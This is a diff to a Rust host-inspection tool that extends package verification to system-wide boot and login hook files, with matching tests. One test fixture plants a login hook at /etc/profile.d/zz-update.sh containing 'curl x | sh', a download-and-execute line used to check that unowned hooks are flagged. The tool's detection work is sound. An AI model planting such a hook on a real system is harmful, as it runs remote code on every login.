@@ -6,7 +6,8 @@
 //! files and digests; an rpm database on an image is recorded as not readable offline.
 //!
 //! Verification is targeted by default: every executable referenced by a running process, a
-//! unit's `Exec*=` lines or a cron entry is hashed and compared with the package database.
+//! unit's `Exec*=` lines or a cron entry, and every system-wide boot or login hook file (from
+//! the `hooks` collector), is hashed and compared with the package database.
 //! `verify = "full"` checks every file of every package as well as everything referenced;
 //! `verify = "none"` skips it.
 
@@ -539,7 +540,12 @@ impl Collector for PackagesCollector {
             name: "packages".into(),
             version: crate::VERSION.into(),
             description: "Installed packages (dpkg, rpm), file ownership, diversions, and verification of referenced executables against package digests".into(),
-            after: vec!["proc".into(), "systemd".into(), "cron".into()],
+            after: vec![
+                "proc".into(),
+                "systemd".into(),
+                "cron".into(),
+                "hooks".into(),
+            ],
         }
     }
 
@@ -701,6 +707,19 @@ fn referenced_executables(ctx: &CollectContext<'_>) -> BTreeMap<String, Vec<Stri
                 out.entry(s.path.clone())
                     .or_default()
                     .push(format!("cron.{}", s.period));
+            }
+        }
+    }
+    // System-wide boot and login hooks (files in home directories belong to no package).
+    for v in ctx.prior("hooks") {
+        if v["kind"] == "hook" && v.get("owner").is_none() {
+            if let (Some(path), Some(class)) = (v["path"].as_str(), v["class"].as_str()) {
+                // An rc link is verified through the init script it points at.
+                if class != "rc-link" || v.get("link_target").is_none() {
+                    out.entry(path.to_string())
+                        .or_default()
+                        .push(format!("hook {class}"));
+                }
             }
         }
     }
@@ -954,6 +973,7 @@ mod tests {
             .exe("/usr/bin/sleep", "trojaned sleep")
             .file("/etc/init.d/cron", "#!/bin/sh\n")
             .exe("/var/log/log", "miner")
+            .file("/etc/profile.d/zz-update.sh", "curl x | sh\n")
     }
 
     fn prior() -> PriorRecords {
@@ -965,6 +985,11 @@ mod tests {
         ]);
         p.insert("systemd".into(), vec![serde_json::json!({"kind":"unit","name":"x.service","unit_type":"service","scope":"system","path":"/etc/systemd/system/x.service","source":{"path":"/etc/systemd/system/x.service"},"unit_dir":"/etc/systemd/system","exec_start":["-/bin/ls -l"],"enabled":false})]);
         p.insert("cron".into(), vec![serde_json::json!({"kind":"cron_entry","source":{"path":"/etc/crontab"},"line":2,"format":"system","owner":"root","schedule":"@reboot","run_as":"root","command":"/etc/init.d/cron start"})]);
+        p.insert("hooks".into(), vec![
+            serde_json::json!({"kind":"hook","path":"/etc/profile.d/zz-update.sh","class":"profile.d","runs_at":"login","active":true}),
+            serde_json::json!({"kind":"hook","path":"/etc/rc2.d/S01cron","class":"rc-link","runs_at":"boot","active":true,"link_target":"../init.d/cron"}),
+            serde_json::json!({"kind":"hook","path":"/home/alice/.bashrc","class":"user-shell-rc","runs_at":"shell","active":true,"owner":"alice"}),
+        ]);
         p
     }
 
@@ -1008,6 +1033,14 @@ mod tests {
         assert_eq!(v["/bin/ls"]["status"], "ok", "{:?}", v["/bin/ls"]);
         assert_eq!(v["/etc/init.d/cron"]["status"], "ok");
         assert_eq!(v["/etc/init.d/cron"]["algorithm"], "md5");
+        // System-wide hooks are verified; rc links through their script, home files never.
+        assert_eq!(v["/etc/profile.d/zz-update.sh"]["status"], "not_owned");
+        assert_eq!(
+            v["/etc/profile.d/zz-update.sh"]["referenced_by"][0],
+            "hook profile.d"
+        );
+        assert!(!v.contains_key("/etc/rc2.d/S01cron"));
+        assert!(!v.contains_key("/home/alice/.bashrc"));
     }
 
     #[test]
